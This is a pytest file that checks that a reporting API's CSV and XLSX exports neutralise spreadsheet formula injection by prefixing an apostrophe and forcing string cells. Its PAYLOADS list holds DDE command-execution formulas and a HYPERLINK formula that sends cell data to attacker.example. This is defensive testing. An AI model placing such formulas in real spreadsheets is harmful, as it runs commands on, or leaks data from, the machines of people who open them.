"""Spreadsheet formula injection: text from the data that a spreadsheet program would run
(`=cmd|' /C calc'!A0`, `+`, `-`, `@`, a leading tab or carriage return) comes back as text in
both exports: an apostrophe in front, and in XLSX always a string cell (never a formula).
Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from api.reports.export import to_csv, to_xlsx
from api.reports.schemas import Table
from core.models import Role
from tests import factories as f

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"Нажмите")',
    "+7 495 123-45-67+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PERIOD = {"start": "2026-10-01", "end": "2026-10-31"}


def _table() -> Table:
    return Table(
        report="clients",
        title_ru="Клиенты",
        title_en="Clients",
        start=date(2026, 10, 1),
        end=date(2026, 10, 31),
        office_ids=[1],
        columns=[
            {"key": "client_name", "ru": "Получатель", "en": "Client", "kind": "text"},
            {"key": "minutes", "ru": "Минуты", "en": "Minutes", "kind": "number"},
        ],
        rows=[{"client_name": text, "minutes": -15.5} for text in PAYLOADS],
    )


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_csv_cells_that_could_start_a_formula_begin_with_an_apostrophe() -> None:
    rows = _csv_cells(to_csv(_table(), office_names=PAYLOADS[:1], worker_name=PAYLOADS[1]))
    names = [row[0] for row in rows[-len(PAYLOADS) :]]
    assert names == ["'" + text for text in PAYLOADS]
    assert [row[1] for row in rows[-len(PAYLOADS) :]] == ["-15,5"] * len(PAYLOADS)
    header = {row[0]: row[1] for row in rows if len(row) == 2}
    assert header["Отделения"] == "'" + PAYLOADS[0]
    assert header["Работник"] == "'" + PAYLOADS[1]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-15,5", cell


def test_xlsx_never_writes_a_formula_from_the_data() -> None:
    body = to_xlsx(_table(), office_names=PAYLOADS[:1], worker_name=PAYLOADS[1])
    sheet = load_workbook(io.BytesIO(body)).active
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                texts.append(cell.value)
    escaped = {"'" + text for text in PAYLOADS if "\r" not in text}  # XLSX keeps no bare CR
    assert escaped <= set(texts)
    minutes = [row[1].value for row in sheet.iter_rows(min_row=sheet.max_row - 1)]
    assert minutes == [-15.5, -15.5]
    raw = body.decode("latin-1")
    assert "<f>" not in raw  # no formula element anywhere in the workbook


def test_names_from_the_registry_come_back_as_text_in_both_exports(
    api: TestClient, db: Session
) -> None:
    region = f.region(db)
    office = f.office(db, region, name=PAYLOADS[0])
    worker = f.worker(db, office, full_name=PAYLOADS[3])
    f.client(db, office, full_name=PAYLOADS[4])
    manager = f.auth(f.user(db, Role.MANAGER, region_id=region.id))
    params = {**PERIOD, "office_id": office.id, "worker_id": worker.id}

    answer = api.get("/api/reports/worker-timing/export.csv", params=params, headers=manager)
    assert answer.status_code == 200, answer.text
    rows = _csv_cells(answer.content)
    header = {row[0]: row[1] for row in rows if len(row) == 2}
    assert header["Отделения"] == "'" + PAYLOADS[0]
    assert header["Работник"] == "'" + PAYLOADS[3]

    answer = api.get("/api/reports/worker-timing/export.xlsx", params=params, headers=manager)
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    named = {cell.value: cell for cell in cells}
    assert named["'" + PAYLOADS[0]].data_type == "s"
    assert named["'" + PAYLOADS[3]].data_type == "s"
